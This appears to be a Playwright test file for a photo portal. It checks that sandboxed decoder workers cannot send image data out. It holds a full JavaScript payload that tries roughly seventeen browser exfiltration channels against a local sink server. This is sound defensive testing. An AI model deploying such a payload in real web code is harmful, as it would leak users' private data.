"""Every worker, taken over: its script tries each way out at once, and a server that listens is not called."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import Route, expect

from support.pictures import photograph
from support.portal_page import PortalPage
from support.worker import script_of

KINDS = ("fingerprint", "film", "heic", "tiff", "own", "receipt")
#: Tries everything that a worker may know of, with a secret in each address; the answers are kept for the test.
HOSTILE = """
self.tried = (async (sink) => {
  const leak = (way) => `${sink}/${way}?pixels=of+a+picture`;
  const told = (promise) => Promise.race([
    promise.then(() => 'out', () => 'blocked'),
    new Promise((done) => setTimeout(done, 3000, 'blocked')),
  ]);
  const heard = (make) => new Promise((resolve, reject) => {
    const made = make();
    made.onopen = made.onload = made.onmessage = resolve;
    made.onerror = reject;
  });
  const ways = {
    fetch: () => fetch(leak('fetch')),
    opaque: () => fetch(leak('opaque'), {mode: 'no-cors', keepalive: true, method: 'POST', body: 'pixels'}),
    own: () => fetch('/v1/page'),
    xhr: () => heard(() => {
      const asked = new XMLHttpRequest();
      asked.open('POST', leak('xhr'));
      asked.send('pixels');
      return asked;
    }),
    socket: () => heard(() => new WebSocket(leak('socket').replace('http', 'ws'))),
    events: () => heard(() => new EventSource(leak('events'))),
    module: () => import(leak('module')),
    scripts: async () => importScripts(leak('scripts')),
    code: async () => (0, eval)('1'),
    made: async () => new Function('return 1')(),
    worker: () => heard(() => new Worker(leak('worker'))),
    blob: () => heard(() => new Worker(URL.createObjectURL(new Blob([`fetch('${leak('blob')}')`])))),
    transport: async () => new WebTransport(leak('transport').replace('http:', 'https:')).ready,
    peer: async () => new RTCPeerConnection(),
    stored: async () => (await caches.open('x')).add(leak('stored')),
    font: () => new FontFace('x', `url(${leak('font')})`).load(),
    beacon: async () => { if (!navigator.sendBeacon(leak('beacon'), 'pixels')) throw 0; },
  };
  const answers = Object.entries(ways).map(async ([way, go]) => [way, await told((async () => go())())]);
  return Object.fromEntries(await Promise.all(answers));
})(%r);
"""


class Sink:
    """A server that takes whatever comes, and remembers that it came."""

    def __init__(self) -> None:
        self.heard: list[str] = []
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def handle_one_request(self) -> None:
                heard.append(self.rfile.readline().decode(errors="replace"))
                self.close_connection = True

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://localhost:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def sink() -> Iterator[Sink]:
    sink = Sink()
    yield sink
    sink.server.shutdown()
    sink.server.server_close()


@pytest.mark.parametrize("kind", KINDS)
def test_a_hostile_decoder_gets_no_byte_out(page: PortalPage, sink: Sink, kind: str) -> None:
    def take_over(route: Route) -> None:
        answer = route.fetch()  # its headers stay: they are the cage
        route.fulfill(response=answer, body=HOSTILE % sink.url)

    page.page.route(f"**{script_of(kind)}", take_over)
    page.begin()
    with page.page.expect_worker(lambda worker: worker.url.endswith(script_of(kind))) as started:
        page.press("Do it with the network off")  # starts every worker
    tried = started.value.evaluate("self.tried")
    assert len(tried) > 15
    assert {way for way, answer in tried.items() if answer == "out"} == set()
    assert sink.heard == []


def test_the_sink_hears_what_is_sent(page: PortalPage, sink: Sink) -> None:
    """The test above would fail: without a policy, its own script gets out."""
    context = page.page.context.browser
    assert context is not None
    free = context.new_context(bypass_csp=True)
    other = free.new_page()
    other.goto(page.page.url)
    other.evaluate(f"fetch('{sink.url}/fetch?pixels', {{mode: 'no-cors'}}).catch(() => undefined)")
    free.close()
    assert sink.heard


def test_a_hostile_decoder_cannot_make_the_page_send(page: PortalPage, tmp_path: Path) -> None:
    """What it answers is a fingerprint or nothing: text in its place is refused by the service, and shown before."""
    (tmp_path / "coffee.png").write_bytes(photograph("coffee.png"))
    posted: list[str] = []
    page.page.on("request", lambda request: posted.append(request.url) if request.method == "POST" else None)
    answer = "{kind: 'image', md5: 'the face of somebody', sha256: '0', note: 'damaged'}"
    script = f"""onmessage = ({{data}}) => postMessage({{id: data.id, kind: 'done', fingerprints: {answer}}});
      postMessage({{kind: 'ready'}});"""
    page.page.route(f"**{script_of('fingerprint')}", lambda route: route.fulfill(response=route.fetch(), body=script))
    page.begin()
    page.choose([tmp_path / "coffee.png"])
    page.agree()
    expect(page.page.get_by_text("The service did not take it.")).to_be_visible()
